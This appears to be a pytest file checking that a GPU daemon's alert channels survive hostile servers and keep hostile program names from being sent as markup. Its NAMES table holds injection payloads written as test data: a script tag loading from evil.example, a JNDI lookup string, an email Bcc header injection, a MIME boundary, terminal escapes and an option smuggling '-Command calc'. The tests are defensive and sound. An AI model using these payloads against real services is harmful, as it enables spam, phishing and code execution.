"""Alert channels with hostile servers and hostile names: a warning is late at worst, and says only text."""

from __future__ import annotations

import os
import re
import signal
import threading
from collections.abc import Mapping
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest

from tests.alerts.test_dispatcher import Outbox
from tests.support.daemons import PATIENCE_SECONDS, eventually
from tests.support.hostile import (
    BOMB,
    ELSEWHERE,
    ENDLESS,
    ESCAPES,
    FLOODS,
    NONSENSE,
    REFUSALS,
    Peer,
    answers,
    hostile,
    rude,
    says,
)
from tests.support.receivers import smtp, webhook
from wslgpud.alerts.channels import Channel, DeliveryError, apprise
from wslgpud.alerts.channels import apprise_worker as worker
from wslgpud.alerts.channels.apprise import AppriseChannel, AppriseProcess, inert, understood
from wslgpud.alerts.dispatcher import Dispatcher, digest, rendered
from wslgpud.alerts.messages import Text, payload
from wslgpud.host import SystemClock
from wslgpud.model import Level, Transition
from wslgpud.probes.supervisor import python_command
from wslgpud.words import ENGLISH, Message

SECRET = "hunter2-hunter2"
#: for what never ends, above the time that a start of Python takes on a busy machine
HASTY = 2.0
MESSAGE = {"level": "critical", "headline": "RAM full", "evidence": "because"}

#: what somebody without rights may call a program or a cgroup
NAMES = {
    "a mention of Slack's": "<!channel> <@U123>",
    "a mention of Discord's": "@everyone @here",
    "a link of Slack's": "<http://evil.example|update your driver>",
    "a link in Markdown": "[update your driver](http://evil.example)",
    "HTML": "</p><script>alert(1)</script><img src=http://evil.example/x>",
    "more headers": "x\r\nBcc: everybody@example.org\r\n\r\nphish",
    "a boundary": "x\r\n\r\n--===\r\nContent-Type: text/html\r\n",
    "escapes": "\x1b]0;owned\x07\x1b[2J\x9b2J",
    "bidi": "\u202egpj.exe\u2066",
    "a template": "{{ printf `%s` .ExternalURL }} ${jndi:ldap://evil} %n%s",
    "emoji code": ":skull: \\x41 \\n",
    "an option": "--urgency=low -Command calc",
}


#: what terminals obey, what chats and mails take for markup, mentions and links with another label
ACTIVE = r"[<>@\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|\]\("


def message(name: str) -> dict[str, Any]:
    """Return the message that a program of this name leads to."""
    row = Transition(1_790_000_000.0, 1.0, "ram", "oom_kill", Level.OK, Level.CRITICAL, Message(f"killed: {name}"))
    return {**rendered(payload(row, Text(row.message), host="pc"), ENGLISH), "evidence": name}


def webhook_url(place: str) -> str:
    return f"json://me:{SECRET}@{place}/hook?+X-Token={SECRET}"


def failed(channel: AppriseChannel) -> str:
    with pytest.raises(DeliveryError) as caught:
        channel.send(MESSAGE)
    said = str(caught.value)
    assert said.isprintable()
    assert SECRET not in said
    assert not caught.value.permanent  # it stays queued
    return said


def living_in(home: Path) -> list[int]:
    """Return the processes whose home this is: a test's own, also when their parents are gone."""
    found = []
    for folder in Path("/proc").glob("[0-9]*"):
        with suppress(OSError):
            if f"HOME={home}".encode() in (folder / "environ").read_bytes().split(b"\0"):
                found.append(int(folder.name))
    return found


def own_bytes(pid: int) -> int:
    """Return a process's private memory, and its proportional part of shared memory."""
    with suppress(OSError):
        lines = Path(f"/proc/{pid}/smaps_rollup").read_text().splitlines()
        return next(int(line.split()[1]) << 10 for line in lines if line.startswith("Pss:"))
    return 0


def picked(table: Mapping[str, Any], *names: str) -> pytest.MarkDecorator:
    return pytest.mark.parametrize("behaviour", [table[name] for name in names], ids=names)


class TestApprise:
    """A child sends; of the cases that ``test_peers`` has by the dozen only those that differ here."""

    @pytest.mark.slow
    @picked(ENDLESS, "a dripping body")
    def test_a_service_that_never_ends_ends_with_the_child(self, behaviour):
        with hostile(behaviour) as server:
            channel = AppriseChannel(f"{webhook_url(server.place)}&rto=180&cto=180", HASTY)

            assert failed(channel) == f"no answer within {HASTY:g} s"

    @picked(FLOODS, "body")
    def test_a_flood_ends_in_the_memory_limit_of_the_child(self, behaviour, monkeypatch):
        with hostile(behaviour) as server:
            # Deadline or limit, whichever comes first: this process holds nothing of it.
            failed(AppriseChannel(webhook_url(server.place), PATIENCE_SECONDS))

    @pytest.mark.parametrize(
        "behaviour",
        [answers("200 OK", BOMB * 20, Content_Encoding="gzip"), NONSENSE["no HTTP"]],
        ids=["bomb", "no HTTP"],
    )
    def test_nonsense_and_bombs_from_a_server_cause_no_traceback(self, behaviour):
        with hostile(behaviour) as server:
            try:
                AppriseChannel(webhook_url(server.place), PATIENCE_SECONDS).send(MESSAGE)
            except DeliveryError as error:
                assert str(error) in map(str, apprise._PROBLEMS.values())

    @picked(REFUSALS, "who are you", "escapes")
    def test_a_refusal_is_told_in_our_words(self, behaviour):
        with hostile(behaviour) as server:
            channel = AppriseChannel(webhook_url(server.place), PATIENCE_SECONDS)

            assert failed(channel) == str(apprise._PROBLEMS[worker.REFUSED])

    @pytest.mark.parametrize(("status", "place"), [("302 Found", "itself"), ("307 Temporary Redirect", "another host")])
    def test_a_redirect_carries_neither_token_nor_message_anywhere(self, status, place):
        with hostile(answers("200 OK")) as other:
            location = ELSEWHERE[place].format(other=other.place)
            with hostile(answers(status, Location=location)) as server:
                said = failed(AppriseChannel(webhook_url(server.place), PATIENCE_SECONDS))

        assert "redirects" in said
        assert len(server.asked) == 1
        assert not other.asked

    def test_a_url_cannot_ask_for_redirects(self):
        with hostile(answers("200 OK")) as other:
            location = f"http://{other.place}/"
            with hostile(answers("302 Found", Location=location)) as server:
                failed(AppriseChannel(webhook_url(server.place) + "&redirect=yes", PATIENCE_SECONDS))

        assert not other.asked

    def test_the_child_s_command_line_and_environment_hold_no_secret(self, monkeypatch, tmp_path):
        monkeypatch.setenv("HOME", str(tmp_path))
        monkeypatch.setenv("WSLGPUD_ALERTS__URLS", SECRET)
        seen: list[str] = []

        def look(peer: Peer) -> None:
            for folder in Path("/proc").glob("[0-9]*"):
                try:
                    command = (folder / "cmdline").read_bytes().decode()
                    if worker.__name__ in command and f"PPid:\t{os.getpid()}\n" in (folder / "status").read_text():
                        seen.append(command + (folder / "environ").read_bytes().decode())
                except OSError:
                    continue
            answers("200 OK")(peer)

        with hostile(look) as server:
            AppriseChannel(webhook_url(server.place), PATIENCE_SECONDS).send(MESSAGE)

        assert seen
        assert SECRET not in "".join(seen)

    @pytest.mark.slow
    def test_what_sends_ends_by_itself_when_nobody_is_left_to_end_it(self, tmp_path, monkeypatch):
        monkeypatch.setenv("HOME", str(tmp_path))
        sender = AppriseProcess()
        with hostile(ENDLESS["silence"]) as server:
            letter = {"url": webhook_url(server.place), "title": "", "body": "x", "type": "info"}
            with pytest.raises(DeliveryError, match="no answer"):
                sender.ask(letter, HASTY)
            assert sender._running is None  # no more letters
            eventually(lambda: not living_in(tmp_path), "the end of the one that hangs")

    def test_ten_hanging_channels_hold_up_no_other(self, tmp_path, monkeypatch):
        monkeypatch.setenv("HOME", str(tmp_path))
        with hostile(ENDLESS["a dripping body"]) as bad, webhook() as good:
            url = f"{webhook_url(bad.place)}&rto=180"
            hanging = [AppriseChannel(f"{url}&x={i}", PATIENCE_SECONDS) for i in range(10)]
            threads = [threading.Thread(target=failed, args=(channel,)) for channel in hanging]
            for thread in threads:
                thread.start()
            eventually(lambda: len(bad.asked) == 10, "all of them to hang")
            AppriseChannel(good.url.replace("http", "json"), PATIENCE_SECONDS).send(MESSAGE)

            assert all(thread.is_alive() for thread in threads)
            assert sum(own_bytes(pid) for pid in living_in(tmp_path)) < 170 << 20  # of the unit's 256 MB
            for pid in living_in(tmp_path):
                os.kill(pid, signal.SIGKILL)
            for thread in threads:
                thread.join()

    def test_a_dead_process_fails_at_once_and_the_next_message_works(self, tmp_path):
        sender = AppriseProcess(["/bin/false"])
        with pytest.raises(DeliveryError, match="has died"):
            sender.ask({"urls": []}, PATIENCE_SECONDS)
        sender._command = python_command(worker.__name__)

        assert sender.ask({"urls": []}, PATIENCE_SECONDS) == worker.TAKEN

    def test_a_dead_fork_fails_at_once_and_costs_no_other_its_answer(self, tmp_path, monkeypatch):
        """The kernel may end it for lack of memory."""
        monkeypatch.setenv("HOME", str(tmp_path))
        sender = AppriseProcess()
        sender.keep_warm(needed=True)
        running = sender._running
        with hostile(ENDLESS["silence"]) as server:
            letter = {"url": webhook_url(server.place), "title": "", "body": "x", "type": "info"}
            said: list[str] = []

            def ask() -> None:
                with pytest.raises(DeliveryError) as caught:
                    sender.ask(letter, 3 * PATIENCE_SECONDS)
                said.append(str(caught.value))

            asking = threading.Thread(target=ask)
            asking.start()
            eventually(lambda: len(server.asked) == 1, "it to hang")
            for pid in living_in(tmp_path):
                if pid != running[0].pid:
                    os.kill(pid, signal.SIGKILL)
            asking.join(PATIENCE_SECONDS)

        assert said == ["the sending process has died"]
        assert sender.ask({"urls": []}, PATIENCE_SECONDS) == worker.TAKEN
        assert sender._running is running
        sender.keep_warm(needed=False)

    def test_what_is_printed_is_no_answer(self):
        """By Apprise, or by a plugin of somebody's."""
        sender = AppriseProcess(["/bin/sh", "-c", "echo 0; sleep 0.1"])
        with pytest.raises(DeliveryError, match="has died"):
            sender.ask({"urls": []}, PATIENCE_SECONDS)

    def test_a_process_that_reads_nothing_times_out(self):
        sender = AppriseProcess(["/bin/sleep", "600"])
        with pytest.raises(DeliveryError, match="no answer within"):
            sender.ask({"title": "x" * (2 << 20)}, 0.1)

    def test_it_stands_by_while_a_message_is_likely_and_no_longer(self):
        """A start takes a second, and far longer once memory is short."""
        sender = AppriseProcess()
        sender.keep_warm(needed=True)
        running = sender._running
        for _ in range(2):
            assert sender.ask({"urls": []}, PATIENCE_SECONDS) == worker.TAKEN
            assert sender._running is running
            assert running[0].poll() is None
        sender.keep_warm(needed=False)

        assert running[0].wait(PATIENCE_SECONDS) == 0

    def test_a_tick_does_not_wait_while_another_thread_starts_it(self, monkeypatch):
        sender, started, go_on = AppriseProcess(), threading.Event(), threading.Event()

        def slow() -> None:
            started.set()
            go_on.wait(PATIENCE_SECONDS)
            raise OSError("memory is short")

        def ask() -> None:
            with pytest.raises(DeliveryError, match="memory is short"):
                sender.ask({}, PATIENCE_SECONDS)

        monkeypatch.setattr(sender, "_start", slow)
        asking = threading.Thread(target=ask)
        asking.start()
        assert started.wait(PATIENCE_SECONDS)
        tick = threading.Thread(target=sender.keep_warm, kwargs={"needed": True}, daemon=True)
        tick.start()
        tick.join(3.0)
        waited = tick.is_alive()
        go_on.set()
        asking.join()

        assert not waited

    def test_a_process_that_dies_on_standby_is_not_restarted_forever(self):
        sender = AppriseProcess(["/bin/false"])
        sender.keep_warm(needed=True)
        assert sender._running[0].wait(PATIENCE_SECONDS) == 1
        sender.keep_warm(needed=True)

        assert sender._running is None

    def test_many_urls_of_which_one_is_nonsense_are_told_apart(self):
        understood([webhook_url("127.0.0.1:1"), "mailto://u:p@example.org"])


class TestMail:
    def url(self, port: int) -> str:
        return f"mailto://127.0.0.1:{port}?from=gpu@example.org&to=me@example.org&mode=insecure"

    @pytest.mark.slow
    @pytest.mark.parametrize(
        "behaviour",
        [lambda peer: peer.for_ever(b"2", 0.05), lambda peer: peer.for_ever(b"220-hello\r\n", 0.05)],
        ids=["a dripping greeting", "a greeting of endless lines"],
    )
    def test_a_server_that_never_finishes_ends_with_the_child(self, behaviour):
        with rude(behaviour) as server:
            assert failed(AppriseChannel(self.url(server.port), HASTY)) == f"no answer within {HASTY:g} s"

    @pytest.mark.parametrize(
        "behaviour",
        [
            says(b"220 " + b"x" * (4 << 20) + b"\r\n"),
            lambda peer: peer.for_ever(b"220-" + b"x" * 500 + b"\r\n"),
            says(b"554 \x1b[2J " + ESCAPES),
        ],
        ids=["a line of 4 MB", "a flood of lines", "escapes"],
    )
    def test_a_server_that_says_too_much_is_a_failure_in_our_words(self, behaviour):
        with rude(behaviour) as server:
            failed(AppriseChannel(self.url(server.port), PATIENCE_SECONDS))

    @pytest.mark.parametrize("name", [NAMES["more headers"], NAMES["a boundary"]])
    def test_a_name_adds_no_header_and_no_part(self, name):
        with smtp() as (mailbox, port):
            AppriseChannel(self.url(port), PATIENCE_SECONDS).send({**message(name), "headline": name})

        (mail,) = mailbox.mails
        assert mail["Bcc"] is None
        assert not mail.is_multipart()
        assert mail.get_content_type() == "text/plain"


class TestText:
    @pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
    def test_a_name_is_made_text_before_it_leaves(self, name):
        assert not re.search(ACTIVE, inert(name))

    def test_that_text_is_what_a_service_gets(self):
        everything = "\n".join(NAMES.values())
        with webhook() as server:
            channel = AppriseChannel(server.url.replace("http", "json"), PATIENCE_SECONDS)
            channel.send({**message(everything), "headline": everything})

        (got,) = server.got
        assert not re.search(ACTIVE, got["title"])
        assert not re.search(ACTIVE, got["message"])
        assert "\n" not in got["title"]
        assert ":skull:" in got["title"] + got["message"]  # no interpretation either

    def test_our_own_advice_stays_as_it_is(self):
        advice = "memory= under [wsl2] in .wslconfig; https://docs.nvidia.com/deploy/xid-errors/ 'wslgpud db'"

        assert inert(advice) == advice

    def test_what_a_server_said_is_one_line_wherever_it_is_kept(self):
        said = str(DeliveryError(f"answered 500: {ESCAPES.decode()}"))

        assert said.isprintable()
        assert len(said) <= 300

    @pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
    def test_a_digest_of_such_names_is_still_one_line_each(self, name):
        found = digest([message(name)] * 30, ENGLISH)

        assert found["headline"].isprintable()


@pytest.mark.slow
def test_a_hanging_channel_delays_no_other_and_is_served_later(monkeypatch):
    """The whole way: a hanging service beside a good one; then it is well again."""
    monkeypatch.setattr("wslgpud.alerts.dispatcher.BACK_OFF_SECONDS", (0.01,))
    with webhook() as good, hostile(ENDLESS["a dripping body"]) as bad:
        hanging = AppriseChannel(f"{webhook_url(bad.place)}&rto=180&cto=180", HASTY)
        channels = [hanging, AppriseChannel(good.url.replace("http", "json"), PATIENCE_SECONDS)]
        box = {channel.name: Outbox() for channel in channels}
        for outbox in box.values():
            outbox.put(1, "RAM full")
        dispatcher = Dispatcher(channels, _Boxes(box), SystemClock())
        dispatcher.start()
        box[channels[1].name].wait_until_empty()
        assert box[hanging.name].waiting

        eventually(lambda: dispatcher.counts[hanging.name, "failed"], "the deadline of the one that hangs")
        bad.behave(bad.http(answers("200 OK")))
        box[hanging.name].wait_until_empty()
        dispatcher.close(PATIENCE_SECONDS)

    assert [got["title"] for got in good.got] == ["RAM full"]


def test_the_end_of_the_daemon_waits_for_no_channel():
    release = threading.Event()

    class Stuck(Channel):
        human = False

        def __init__(self, name: str) -> None:
            self.name = name
            self.begun = threading.Event()

        def send(self, _: Mapping[str, Any]) -> None:
            self.begun.set()
            release.wait()

    channels = [Stuck(f"stuck{i}") for i in range(20)]
    boxes = {channel.name: Outbox() for channel in channels}
    for outbox in boxes.values():
        outbox.put(1, "RAM full")
    dispatcher = Dispatcher(channels, _Boxes(boxes), SystemClock())
    dispatcher.start()
    for channel in channels:
        assert channel.begun.wait(PATIENCE_SECONDS)
    workers = [thread for thread in threading.enumerate() if thread.name.startswith("alerts-stuck")]
    dispatcher.close(0.2)  # for all of them together, not for each
    assert len(workers) == len(channels)
    assert all(worker.is_alive() for worker in workers)
    assert all(outbox.waiting for outbox in boxes.values())
    release.set()


class _Boxes:
    """An outbox for each channel."""

    def __init__(self, boxes: Mapping[str, Outbox]) -> None:
        self._boxes = boxes
        self._local = threading.local()

    def unsent(self, channel: str) -> Any:
        self._local.box = self._boxes[channel]
        return self._local.box.unsent(channel)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._local.box, name)
